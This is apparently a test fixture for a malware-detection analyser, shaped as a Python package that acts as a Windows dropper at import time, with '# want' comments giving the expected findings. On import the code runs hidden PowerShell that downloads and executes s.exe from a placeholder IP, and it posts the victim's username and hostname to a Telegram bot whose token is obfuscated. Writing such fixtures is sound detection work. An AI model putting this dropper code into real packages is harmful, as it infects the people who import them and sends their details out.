# An import-time dropper for Windows in the style of published reports: a
# PowerShell download cradle started when the package is imported, and a
# Telegram bot told about the new victim.
import os
import platform
import subprocess

import requests

_BOT = "".join(chr(c) for c in [49, 50, 51, 52, 53, 54, 58, 65, 66, 67, 100, 101, 102])  # want "string of 13 characters spelled as chr"
_CHAT = "-1009876543"

if platform.system() == "Windows":
    subprocess.Popen(  # want "subprocess.Popen runs powershell at import time"
        ["powershell", "-w", "hidden", "-c", "iwr http://203.0.113.7/s.exe -OutFile $env:TEMP\\s.exe; & $env:TEMP\\s.exe"],
        creationflags=0x08000000,
    )
    requests.post(  # want "requests.post reaches the network at import time" "sends data to a Telegram bot"
        "https://api.telegram.org/bot" + _BOT + "/sendMessage",
        data={"chat_id": _CHAT, "text": os.getlogin() + "@" + platform.node()},
    )
